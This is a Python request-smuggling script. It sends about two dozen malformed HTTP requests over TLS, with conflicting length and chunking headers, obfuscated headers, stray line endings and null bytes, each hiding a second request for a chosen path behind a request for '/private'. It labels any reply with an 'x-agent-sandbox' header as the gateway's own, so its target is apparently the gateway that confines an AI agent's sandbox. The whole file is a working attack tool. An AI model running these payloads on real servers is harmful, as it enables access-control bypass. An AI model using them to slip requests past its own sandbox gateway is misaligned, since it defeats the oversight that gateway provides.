# SPDX-License-Identifier: MIT
# smuggle.py HOST PATH: sends requests that two readers could understand differently, each on its own TLS connection and with PATH in the
# part that only one of them takes for a request. Prints the first line of each answer, and whether it is the gateway's own.
import socket
import ssl
import sys

HOST, PATH = sys.argv[1], sys.argv[2]
HIDDEN = f"GET {PATH} HTTP/1.1\r\nHost: {HOST}\r\n\r\n"
START = f"POST /private HTTP/1.1\r\nHost: {HOST}\r\n"

ATTEMPTS = {
    "length and chunks": START + f"Content-Length: {len(HIDDEN) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    "chunks and length": START + "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n5c\r\n" + HIDDEN + "\r\n0\r\n\r\n",
    "a tab before chunked": START + "Content-Length: 5\r\nTransfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    "a letter more": START + "Content-Length: 5\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    "two encodings": START + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + HIDDEN,
    "a blank before the colon": START + "Content-Length: 5\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    "a vertical tab": START + "Content-Length: 5\r\nTransfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    "two lengths": START + f"Content-Length: 0\r\nContent-Length: {len(HIDDEN)}\r\n\r\n" + HIDDEN,
    "a list of lengths": START + f"Content-Length: 0, {len(HIDDEN)}\r\n\r\n" + HIDDEN,
    "a length with a sign": START + "Content-Length: +0\r\n\r\n" + HIDDEN,
    "a length in hexadecimal": START + "Content-Length: 0x0\r\n\r\n" + HIDDEN,
    "a negative length": START + "Content-Length: -1\r\n\r\n" + HIDDEN,
    "a folded line": f"GET /private HTTP/1.1\r\nHost: {HOST}\r\nX-One: a\r\n Content-Length: 5\r\n\r\n",
    "bare line feeds": f"GET /private HTTP/1.1\nHost: {HOST}\nX-One: a\n\n" + HIDDEN,
    "a bare carriage return": f"GET /private HTTP/1.1\r\nHost: {HOST}\r\nX-One: a\rContent-Length: 9\r\n\r\n",
    "a line feed in a field": f"GET /private HTTP/1.1\r\nHost: {HOST}\r\nX-One: a\nGET: {PATH}\r\n\r\n",
    "a null byte": f"GET /private HTTP/1.1\r\nHost: {HOST}\r\nX-One: a\0b\r\n\r\n",
    "a chunk size that overflows": START + "Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n\r\n" + HIDDEN,
    "a chunk size with a sign": START + "Transfer-Encoding: chunked\r\n\r\n+0\r\n\r\n" + HIDDEN,
    "a chunk without its end": START + "Transfer-Encoding: chunked\r\n\r\n1\r\naX0\r\n\r\n" + HIDDEN,
    "a line feed in a chunk's extension": START + "Transfer-Encoding: chunked\r\n\r\n0;a\nb\r\n\r\n" + HIDDEN,
    "an old version with chunks": f"POST /private HTTP/1.0\r\nHost: {HOST}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    "no version": "GET /private\r\n" + HIDDEN,
    "a blank in the target": f"GET /private HTTP/1.1 {PATH} HTTP/1.1\r\nHost: {HOST}\r\n\r\n",
}


def ask(data):
    with socket.create_connection((HOST, 443), timeout=60) as plain, ssl.create_default_context().wrap_socket(plain, server_hostname=HOST) as secure:
        answer = b""
        try:
            secure.sendall(data.encode("latin-1"))
            secure.settimeout(60)
            # Every answer to a doubtful request ends the connection; a request that is understood is answered first.
            while b"\r\n\r\n" not in answer and (piece := secure.recv(65536)):
                answer += piece
        except OSError as error:
            return f"closed ({error.__class__.__name__})"
        own = b" by the gateway" if b"\r\nx-agent-sandbox:" in answer else b""
        return (answer.split(b"\r\n")[0] + own).decode("latin-1") or "closed"


if len(sys.argv) > 3:
    print("two requests:", ask(f"GET /private HTTP/1.1\r\nHost: {HOST}\r\n\r\n" + HIDDEN.replace("\r\n\r\n", "\r\nConnection: close\r\n\r\n")))
else:
    for name, data in ATTEMPTS.items():
        print(f"{name}: {ask(data)}")
